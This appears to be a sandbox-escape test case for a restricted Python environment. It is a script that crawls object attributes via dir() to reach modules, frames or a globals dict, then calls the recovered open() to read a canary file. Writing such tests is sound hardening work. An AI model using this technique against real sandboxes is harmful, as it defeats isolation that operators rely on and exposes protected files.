# attack: breadth-first crawl of every attribute dir() lists, looking for a module, frame or globals dict
# limits: max_duration=2
seeds = [0, "", [], {}, (), len, print, type, object, int, Exception(), lambda: 0, range(1), iter([])]
seen = set()
queue = [(s, "seed") for s in seeds]
found = []
steps = 0
while queue and steps < 4000:
    obj, path = queue.pop(0)
    steps += 1
    if id(obj) in seen:
        continue
    seen.add(id(obj))
    kind = type(obj).__name__
    if kind in ("module", "frame", "code", "cell", "traceback"):
        found.append(path)
    if isinstance(obj, dict) and ("__builtins__" in obj or "open" in obj):
        found.append(path)
        b = obj.get("__builtins__", obj)
        try:
            print(b["open"](canary_path).read())
        except Exception:
            pass
    try:
        names = dir(obj)
    except Exception:
        continue
    for name in names:
        try:
            queue.append((getattr(obj, name), path + "." + name))
        except Exception:
            pass
print(len(found), found[:5])
